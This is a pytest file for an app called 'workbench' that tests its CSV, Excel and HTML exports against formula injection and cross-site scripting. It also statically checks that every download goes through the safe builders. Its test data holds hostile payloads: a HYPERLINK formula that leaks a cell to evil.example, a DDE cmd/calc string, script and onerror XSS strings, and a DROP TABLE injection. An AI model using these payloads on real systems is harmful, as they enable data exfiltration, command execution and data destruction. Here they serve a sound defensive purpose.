"""Every download the app offers is safe to open in a spreadsheet or a browser.

Hostile frames go through each export function the pages use; a static check makes
sure every CSV/Excel download on every page is built by one of them.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest

from workbench import exports, plans

ROOT = Path(__file__).resolve().parents[1]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|" /C calc"!A0',
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "'); DROP TABLE accounts;--",
    "W" * 5_000,
    "plain text",
    None,
]


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "name": HOSTILE,
            "email": [f"{v}@x.com" if v else None for v in HOSTILE],
            "amount": [-1.5] * len(HOSTILE),  # negative numbers stay numbers
            "tags": [[v or "", "=2+2"] for v in HOSTILE],
        }
    )


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(TRIGGERS), repr(cell[:40])


def test_csv_export_neutralises_every_formula():
    rows = _csv_cells(exports.to_csv_bytes(_hostile_frame()))
    header, body = rows[0], rows[1:]
    assert header == ["name", "email", "amount", "tags"]
    assert len(body) == len(HOSTILE)
    _assert_no_formula([row[0] for row in body] + [row[1] for row in body])
    assert [row[2] for row in body] == ["-1.5"] * len(HOSTILE)
    assert body[0][0] == "'=1+1"
    assert body[9][0] == "W" * 5_000  # long text kept whole
    _assert_no_formula([row[3] for row in body])  # lists are joined, then checked


def test_excel_export_holds_no_formula_cells():
    data = exports.to_excel_bytes(_hostile_frame(), "hostile =1+1 [x]")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    back = pl.read_excel(io.BytesIO(data))
    _assert_no_formula([v for v in back["name"].to_list() if v])
    assert back["amount"].to_list() == [-1.5] * len(HOSTILE)


def test_plan_exports_neutralise_and_escape():
    plan = plans.new_plan("A1", "=cmd|' /C calc'!A0 <script>alert(1)</script>")
    plan.identify = "<img src=x onerror=alert(1)>"
    plan.actions = [
        plans.Action(
            contact=v or "", action="=1+1", owner="@me", due_on=None, status="open"
        )
        for v in HOSTILE[:5]
    ]
    rows = _csv_cells(plans.actions_csv(plan))
    for row in rows[1:]:
        _assert_no_formula(row)
    page = plans.plan_to_html(plan)
    assert "<script>alert(1)</script>" not in page
    assert "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def _download_calls() -> list[tuple[str, ast.Call]]:
    calls = []
    screens = [
        *(ROOT / "pages").glob("*.py"),
        *(ROOT / "workbench" / "app").rglob("*.py"),
    ]
    for path in sorted(screens):
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
            ):
                calls.append((path.name, node))
    return calls


SAFE_BUILDERS = {"to_csv_bytes", "to_excel_bytes", "actions_csv"}


def test_the_audit_finds_the_downloads():
    assert len(_download_calls()) >= 3


@pytest.mark.parametrize(("page", "call"), _download_calls())
def test_every_spreadsheet_download_goes_through_the_safe_exports(page, call):
    keywords = {k.arg: k.value for k in call.keywords}
    file_name = ast.unparse(keywords.get("file_name", ast.Constant("")))
    data = keywords.get("data", call.args[1] if len(call.args) > 1 else None)
    assert data is not None, f"{page}: a download without data"
    if not any(ext in file_name for ext in (".csv", ".xlsx", ".xls", ".tsv")):
        return  # Markdown and HTML are not opened by spreadsheets
    # Called now or handed over to be called on click (functools.partial, lambda).
    builders = {
        n.attr if isinstance(n, ast.Attribute) else n.id
        for n in ast.walk(data)
        if isinstance(n, ast.Attribute | ast.Name)
    }
    assert builders & SAFE_BUILDERS, (
        f"{page}: {file_name} is built by {sorted(builders)}, not workbench.exports"
    )


@pytest.mark.parametrize(("page", "call"), _download_calls())
def test_a_download_click_does_not_rerun_the_page(page, call):
    # a click only fetches the file: rerunning the page for it cost a whole
    # rerun (tens of milliseconds at 10,000 accounts) and redrew every element
    keywords = {k.arg: k.value for k in call.keywords}
    on_click = keywords.get("on_click")
    assert isinstance(on_click, ast.Constant) and on_click.value == "ignore", page


def test_a_download_built_on_click_is_built_in_the_pages_language():
    # Streamlit builds a clicked download in a worker thread of its own, where
    # the page's language is not in force; a new thread starts the same way
    import threading

    from workbench import i18n
    from workbench.app.components import built_on_click

    built: list[str] = []
    i18n.set_language("zh-Hans")
    try:
        data = built_on_click(i18n.gettext, "Account")
        worker = threading.Thread(target=lambda: built.append(data()))
        worker.start()
        worker.join()
    finally:
        i18n.set_language(i18n.DEFAULT_LANGUAGE)
    assert built == ["客户"]
